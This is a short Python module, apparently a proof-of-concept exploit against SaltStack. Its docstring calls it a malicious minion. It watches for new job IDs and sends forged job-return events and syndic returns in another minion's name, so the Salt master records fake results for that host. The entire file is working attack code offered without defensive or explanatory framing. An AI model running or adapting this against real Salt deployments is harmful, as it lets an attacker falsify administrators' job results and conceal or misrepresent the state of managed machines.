"""A malicious minion that answers in the name of another one: a module among a minion's modules. It
fires an event with the tag of the other's return, and sends a return as a syndic: Salt accepts both
from every minion, and stores the second in the job cache."""

import os
import time

import salt.channel.client
import salt.crypt


def returns(host, data, seconds=30):
    """Answers in the name of ``host`` to each job that this minion gets, too; how many."""
    opts = globals()["__opts__"]
    folder = os.path.join(opts["cachedir"], "proc")
    end, seen = time.monotonic() + seconds, set(os.listdir(folder))
    with salt.channel.client.ReqChannel.factory(opts) as channel:
        token = salt.crypt.SAuth(opts).gen_token(b"salt")
        while time.monotonic() < end:
            for jid in set(os.listdir(folder)) - seen:
                seen.add(jid)
                for load in _loads(opts["id"], jid, host, data):
                    channel.send({**load, "id": opts["id"], "tok": token})
            time.sleep(0.002)
    return len(seen)


def _loads(own, jid, host, data):
    returned = {"return": data, "retcode": 0, "success": True}
    event = {**returned, "id": host, "jid": jid, "fun": "virt.answer", "cmd": "_return"}
    yield {"cmd": "_minion_event", "events": [{"tag": f"salt/job/{jid}/ret/{host}", "data": event}]}
    syndic = {"id": own, "jid": jid, "fun": "virt.answer", "return": {host: returned}}
    yield {"cmd": "_syndic_return", "load": [syndic]}
